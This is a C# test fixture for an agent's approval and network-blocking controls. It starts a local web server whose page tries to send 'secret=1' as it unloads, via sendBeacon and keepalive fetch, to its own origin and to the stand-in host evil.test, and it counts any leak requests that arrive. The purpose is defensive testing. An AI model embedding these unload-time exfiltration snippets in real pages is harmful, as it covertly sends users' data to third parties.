using System.Collections.Concurrent;
using System.Net;
using System.Net.WebSockets;
using System.Text;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace ActionAgent.Approvals.Tests.Network;

/// <summary>
/// A hostile site on 127.0.0.1 whose page sends data while it unloads: <c>navigator.sendBeacon</c> in <c>pagehide</c>,
/// <c>fetch(…, {keepalive: true})</c> in <c>beforeunload</c> and <c>visibilitychange</c>, each to its own host and to
/// evil.test (mapped to the same server). Every request under <c>/leak/</c> and every WebSocket message is counted, so a
/// test can prove nothing arrived.
/// </summary>
public sealed class UnloadSite : IAsyncDisposable
{
    private readonly WebApplication _app;

    private UnloadSite(WebApplication app, int port)
    {
        _app = app;
        Port = port;
    }

    public int Port { get; }

    public string Url => $"http://127.0.0.1:{Port}/";

    public ConcurrentDictionary<string, int> Hits { get; } = new();

    public ConcurrentQueue<string> WebSocketMessages { get; } = new();

    /// <summary>Requests that reached the server under /leak/, as "METHOD path" → count.</summary>
    public IReadOnlyDictionary<string, int> Leaks => Hits.Where(h => h.Key.Contains(" /leak/", StringComparison.Ordinal)).ToDictionary();

    public int LeakCount => Leaks.Values.Sum();

    public int HitsOf(string methodAndPath) => Hits.GetValueOrDefault(methodAndPath);

    public static async Task<UnloadSite> StartAsync()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseKestrel(k => k.Listen(IPAddress.Loopback, 0));
        var app = builder.Build();
        UnloadSite? site = null;
        app.UseWebSockets();
        app.Use(async (c, next) =>
        {
            site!.Hits.AddOrUpdate($"{c.Request.Method} {c.Request.Path}", 1, (_, n) => n + 1);
            c.Response.Headers["Access-Control-Allow-Origin"] = "*";
            await next();
        });
        app.MapGet("/", (HttpContext c) => Results.Content(Page(c.Request.Host.Port ?? 0), "text/html"));
        app.MapGet("/other", () => Results.Content("<html><head><title>other</title></head><body>other page</body></html>", "text/html"));
        app.MapGet("/frame", () => Results.Content("<html><body>frame<script>addEventListener('pagehide', () => { navigator.sendBeacon('/leak/frame-pagehide-beacon', 'secret=1'); fetch('/leak/frame-pagehide-keepalive', {method: 'POST', keepalive: true, body: 'secret=1'}); });</script></body></html>", "text/html"));
        app.MapPost("/leak/{name}", () => Results.Text("ok"));
        app.MapPost("/api/save", () => Results.Text("saved"));
        app.Map("/ws", async (HttpContext c) =>
        {
            if (!c.WebSockets.IsWebSocketRequest)
            {
                c.Response.StatusCode = 400;
                return;
            }

            using var ws = await c.WebSockets.AcceptWebSocketAsync();
            var buffer = new byte[4096];
            while (ws.State == WebSocketState.Open)
            {
                WebSocketReceiveResult r;
                try
                {
                    r = await ws.ReceiveAsync(buffer, CancellationToken.None);
                }
                catch (WebSocketException)
                {
                    break;
                }

                if (r.MessageType == WebSocketMessageType.Close)
                {
                    break;
                }

                var text = Encoding.UTF8.GetString(buffer, 0, r.Count);
                site!.WebSocketMessages.Enqueue(text);
                await ws.SendAsync(Encoding.UTF8.GetBytes("echo:" + text), WebSocketMessageType.Text, true, CancellationToken.None);
            }
        });
        await app.StartAsync();
        var address = app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First();
        site = new UnloadSite(app, new Uri(address).Port);
        return site;
    }

    private static string Page(int port) => $$"""
        <html><head><title>unload</title></head><body>
        <p>This page phones home while it goes away.</p>
        <button id="save" onclick="fetch('/api/save',{method:'POST',body:'draft=1'}).then(r=>r.text()).then(t=>document.title='save:'+t).catch(()=>document.title='save:failed')">Save</button>
        <button id="ws" onclick="openSocket()">Socket</button>
        <script>
        const evil = 'http://evil.test:{{port}}';
        addEventListener('pagehide', () => {
          navigator.sendBeacon('/leak/pagehide-beacon', 'secret=1');
          navigator.sendBeacon(evil + '/leak/pagehide-beacon-evil', 'secret=1');
        });
        addEventListener('beforeunload', () => {
          fetch('/leak/beforeunload-keepalive', {method: 'POST', keepalive: true, body: 'secret=1'});
          fetch(evil + '/leak/beforeunload-keepalive-evil', {method: 'POST', keepalive: true, body: 'secret=1', mode: 'no-cors'});
        });
        document.addEventListener('visibilitychange', () => {
          if (document.visibilityState !== 'hidden') return;
          fetch('/leak/visibility-keepalive', {method: 'POST', keepalive: true, body: 'secret=1'});
          navigator.sendBeacon(evil + '/leak/visibility-beacon-evil', 'secret=1');
        });
        let socket;
        function openSocket() {
          socket = new WebSocket('ws://127.0.0.1:{{port}}/ws');
          socket.onopen = () => { document.title = 'ws:open'; };
          socket.onmessage = e => { document.title = 'ws:' + e.data; };
          socket.onclose = () => { document.title = 'ws:closed'; };
        }
        function addFrame() { const f = document.createElement('iframe'); f.id = 'child'; f.src = '/frame'; document.body.appendChild(f); return new Promise(r => f.onload = r); }
        function removeFrame() { document.getElementById('child').remove(); }
        function sendSocket(text) { socket.send(text); }
        </script>
        </body></html>
        """;

    public async ValueTask DisposeAsync()
    {
        await _app.StopAsync();
        await _app.DisposeAsync();
    }
}
